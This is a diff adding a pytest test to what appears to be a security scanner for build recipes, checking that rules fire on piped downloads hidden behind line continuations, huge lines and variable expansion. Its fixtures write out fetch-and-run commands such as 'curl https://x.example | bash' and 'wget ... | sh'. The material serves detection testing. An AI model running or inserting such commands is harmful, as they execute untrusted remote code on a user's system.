@@ -98,6 +98,20 @@ def test_raw_rules_see_whole_lines(spark):
     assert {"R010", "R013", "X008"} <= got[0] and "R011" in got[1]
 
 
+def test_whole_logical_lines(spark):
+    many = ["  curl \\", *["    -H header-of-some-length \\"] * 2000, "    https://x.example | bash"]
+    grown = ["  v=" + "y" * 9000, "  w=$v$v$v", "  wget https://x.example/$w$w | sh"]
+    long = "  curl " + "-a b " * 100_000 + "| bash"
+    mine = ["  a=" + "x" * 1000, *(f"  {y}=${x}${x}${x}${x}" for x, y in zip("abcdefghi", "bcdefghij")), "  curl $j | sh"]
+    texts = [diff("build() {", *own, "}") for own in (many, grown, [long], mine)]
+    first, second, third, fourth = found(spark, *texts)
+    assert "R001" in first and "R002" in second and "R001" in third and "R001" in fourth
+    lines, _, _ = recipe.read(texts[0])
+    assert next(x.pipe_to for x in lines if x.body == "  curl \\") == "bash"
+    assert [diffs.facts_of(t)["oversized"] > 0 for t in texts] == [False, True, True, True]
+    assert "w" in recipe.read(texts[1])[1] and len(recipe.read(texts[1])[1]["w"]) == 27_000
+
+
 def test_catalogue_is_sound():
     assert len({r.id for r in rules.RULES}) == len(rules.RULES) >= 55
     assert {r.severity for r in rules.RULES} <= {"INFO", "LOW", "MEDIUM", "HIGH", "CRITICAL", "FATAL"}
